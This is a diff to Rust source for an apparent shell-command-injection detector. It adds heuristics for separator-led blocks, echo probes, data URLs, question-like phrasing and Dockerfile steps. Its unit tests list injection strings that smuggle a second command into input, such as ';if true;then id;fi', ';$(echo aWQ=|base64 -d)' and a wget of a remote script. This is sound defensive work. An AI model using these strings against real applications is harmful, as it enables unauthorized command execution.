@@ -6,13 +6,54 @@
 //! line as the whole of a short value is not.
 
 use super::evidence::{Evidence, Strongest, Texture};
-use super::{shell_idioms, shell_tricks};
-use crate::text::cursor::{each_of_ci, is_space, is_word};
+use super::{gate, shell_idioms, shell_tricks};
+use crate::text::cursor::{each_of_ci, find, is_space, is_word};
 use crate::text::shell::{Argument, COMMANDS, Command, Invocation, Mark, each_invocation};
 
 /// The strongest evidence in `text`; `idiomatic` when a word of an idiom occurs.
 pub(crate) fn find_in(text: &[u8], idiomatic: bool, texture: Texture) -> Option<Evidence> {
     let mut best = Strongest::default();
+    shells(text, idiomatic, texture, &mut best);
+    if texture.is_text()
+        && texture.lines <= 2
+        && let Some((start, end)) = beside_prose(text)
+    {
+        let part = text.get(start..end).unwrap_or_default();
+        let mut found = Strongest::default();
+        shells(part, idiomatic, gate::scan(part).texture, &mut found);
+        if let Some(found) = found.0 {
+            best.add(found.shifted(start));
+        }
+    }
+    best.0
+}
+
+/// A payload of prose that is nothing but prose: behind its last words, or in
+/// front of a comment that cuts it off. Where it starts and ends.
+fn beside_prose(text: &[u8]) -> Option<(usize, usize)> {
+    const LONGEST: usize = 100;
+    let speaks = |b: &u8| {
+        b.is_ascii_alphanumeric()
+            || !b.is_ascii()
+            || matches!(b, b' ' | b',' | b'.' | b'!' | b'?' | b'-' | b'\n' | b'\r')
+    };
+    let prose = |part: &[u8]| part.iter().all(|b| speaks(b) || *b == b'\'');
+    let head = text.get(..LONGEST.min(text.len())).unwrap_or_default();
+    if let Some(comment) = head.windows(3).position(|three| three == b" # ")
+        && prose(text.get(comment.saturating_add(3)..).unwrap_or_default())
+    {
+        return Some((0, comment));
+    }
+    let start = text.len().saturating_sub(LONGEST);
+    let tail = text.get(start..).unwrap_or_default();
+    let first = start.saturating_add(tail.iter().position(|b| !speaks(b))?);
+    let last = tail
+        .iter()
+        .any(|b| matches!(b, b';' | b'|' | b'&' | b'`' | b'$'));
+    (last && prose(text.get(..first).unwrap_or_default())).then_some((first, text.len()))
+}
+
+fn shells(text: &[u8], idiomatic: bool, texture: Texture, best: &mut Strongest) {
     let mut place = Surroundings::new(text);
     each_invocation(text, &mut |found| {
         if let Some((code, score)) = judge(&found, &mut place, texture) {
@@ -20,12 +61,11 @@ pub(crate) fn find_in(text: &[u8], idiomatic: bool, texture: Texture) -> Option<
         }
     });
     if !texture.is_text() {
-        shell_tricks::find_in(text, &mut best);
+        shell_tricks::find_in(text, best);
     }
     if idiomatic {
-        shell_idioms::find_in(text, texture, &mut best);
+        shell_idioms::find_in(text, texture, best);
     }
-    best.0
 }
 
 /// What a text is a list by is counted once.
@@ -71,7 +111,14 @@ impl<'t> Surroundings<'t> {
     fn is_bare(&self, found: &Invocation) -> bool {
         let before = found.start.checked_sub(1).and_then(|at| self.text.get(at));
         let glued = before.is_some_and(|b| !is_space(*b) && *b != b'(');
+        // `; if true;then id;fi`
+        let blocks = || {
+            let before = self.text.get(..found.start).unwrap_or_default();
+            let opens = [&b"if "[..], b"for ", b"while "];
+            before.len() <= 48 && opens.iter().any(|word| find(before, word).is_some())
+        };
         match found.mark {
+            Mark::Separator if found.led && blocks() => true,
             Mark::Quoted => {
                 (found.bare && !before.is_some_and(|b| is_space(*b)))
                     || (glued && !found.command.is_common() && found.command.tells())
@@ -83,7 +130,7 @@ impl<'t> Surroundings<'t> {
     /// A word without arguments between others, as in `name|date|type`, is an
     /// item of a list, a choice of a pattern or a column of a table.
     fn is_item(&mut self, found: &Invocation) -> bool {
-        if found.hidden || found.rooted {
+        if found.hidden || found.rooted || found.led {
             return false;
         }
         let before = self.text.get(..found.start).unwrap_or_default();
@@ -135,6 +182,9 @@ fn judge(
     }
     let common = found.command.is_common();
     let argued = matches!(found.argument, Flag | Technical);
+    if (begins && is_asked_about(place.text)) || is_built(place.text, found) {
+        return None;
+    }
     // in a text it makes no difference
     let aims = argued && !texture.is_text() && aims(place.text, found);
     let (code, bare, in_sentence): (_, u16, u16) = match found.mark {
@@ -144,6 +194,10 @@ fn judge(
                 (_, Nothing) if !found.command.tells() && !found.hidden && !found.rooted => {
                     (3500, 2500)
                 }
+                // `;base64` of a `data:` address
+                (false, Word) if place.text.get(..found.end).is_some_and(is_data) => (3500, 2500),
+                // the probe that shows itself
+                (true, Word) if is_probe(place.text, found) => (6000, 2500),
                 (false, Nothing) => (8200, 6500),
                 (true, Nothing) => (6500, 3500),
                 (false, Flag | Technical) => (8800, if aims { 8000 } else { 4500 }),
@@ -212,6 +266,59 @@ fn judge(
         code,
         texture.weigh(score.saturating_add(odd).min(9500), 3500, 2000),
     ))
+}
+
+/// `; echo pwned` and nothing else.
+fn is_probe(text: &[u8], found: &Invocation) -> bool {
+    let name = text.get(found.start..found.end).unwrap_or_default();
+    let words = text.split(|b| !is_word(*b)).filter(|w| !w.is_empty());
+    text.len() <= 40 && found.start <= 2 && name.ends_with(b"echo") && words.count() == 2
+}
+
+/// `data:image/png;base64`
+fn is_data(before: &[u8]) -> bool {
+    let near = before.get(before.len().saturating_sub(64)..);
+    near.is_some_and(|near| {
+        near.ends_with(b";base64") && near.windows(5).any(|five| five == b"data:")
+    })
+}
+
+/// `cat /etc/hosts meaning`: words of a question about a command.
+fn is_asked_about(text: &[u8]) -> bool {
+    const ASKING: [&[u8]; 14] = [
+        b"vs",
+        b"versus",
+        b"meaning",
+        b"works",
+        b"work",
+        b"does",
+        b"doesn't",
+        b"is",
+        b"how",
+        b"why",
+        b"what",
+        b"explained",
+        b"example",
+        b"but",
+    ];
+    text.len() <= 120
+        && !text
+            .iter()
+            .any(|b| matches!(b, b';' | b'|' | b'&' | b'>' | b'\n'))
+        && text
+            .split(|b| is_space(*b))
+            .skip(1)
+            .any(|word| ASKING.contains(&word))
+}
+
+/// A step of a Dockerfile.
+fn is_built(text: &[u8], found: &Invocation) -> bool {
+    if !text.starts_with(b"FROM ") || found.mark != Mark::Separator {
+        return false;
+    }
+    let before = text.get(found.start.saturating_sub(400)..found.start);
+    let line = before.and_then(|before| before.rsplit(|b| *b == b'\n').next());
+    line.is_some_and(|line| line.starts_with(b"RUN "))
 }
 
 /// Behind the closing quote the text goes on, as in prose about a command.
@@ -306,7 +413,11 @@ fn aims(text: &[u8], found: &Invocation) -> bool {
         .count();
     let taken = NETWORK.iter().any(|command| name.ends_with(command));
     let host = host && (found.mark != Mark::Start || (taken && plain <= 1));
-    let number = !word.is_empty() && word.iter().all(u8::is_ascii_digit) && blank.len() <= 4;
+    let filter = [&b"head"[..], b"tail", b"cut", b"sort"]
+        .iter()
+        .any(|command| name.ends_with(command));
+    let number =
+        !filter && !word.is_empty() && word.iter().all(u8::is_ascii_digit) && blank.len() <= 4;
     if word == b"/"
         || number
         || (host && blank.len() <= 64)
@@ -315,6 +426,15 @@ fn aims(text: &[u8], found: &Invocation) -> bool {
         return true;
     }
     let mut seen = false;
+    // the quote that ends a span of Markdown is no substitution
+    let near = text
+        .get(found.start.saturating_sub(200)..found.start)
+        .unwrap_or_default();
+    let spans = near.split(|b| *b == b'`').count() % 2 == 0;
+    let line = match line.iter().position(|b| *b == b'`') {
+        Some(close) if spans => line.get(..close).unwrap_or_default(),
+        _ => line,
+    };
     each_of_ci(line, &TARGETS, &mut |_, _| seen = true);
     seen
 }
@@ -355,6 +475,14 @@ mod tests {
             "wget http://e.example/x.sh",
             "8.8.8.8 && sleep 5",
             "nohup sh -c whoami",
+            "; x=1 id",
+            ";if true;then id;fi",
+            ";for i in 1;do id;done",
+            "| exec sleep 5",
+            "; </dev/null ps aux",
+            "; $(tr A-Z a-z<<<'ID')",
+            ";$(echo aWQ=|base64 -d)",
+            "; echo pwned",
         ] {
             assert!(score(text) >= 5000, "{text}");
         }
@@ -371,6 +499,12 @@ mod tests {
             "price|sort|cat|date|start|end|zip|x",
             "ann;cat;red;sort;big;zip;new;date",
             "x;cat;y",
+            "cat /etc/hosts meaning",
+            "bash ${var} vs $(command)",
+            "ping 127.0.0.1 works but localhost doesn't",
+            "data:image/png;base64 size limit",
+            "index=web | stats count by uri, user | sort -count | head 10",
+            "FROM node:20\nRUN npm ci; rm -rf /tmp/*\nCMD [\"x\"]",
             "a|date|b",
             "name|date",
             "(int|id|set)",
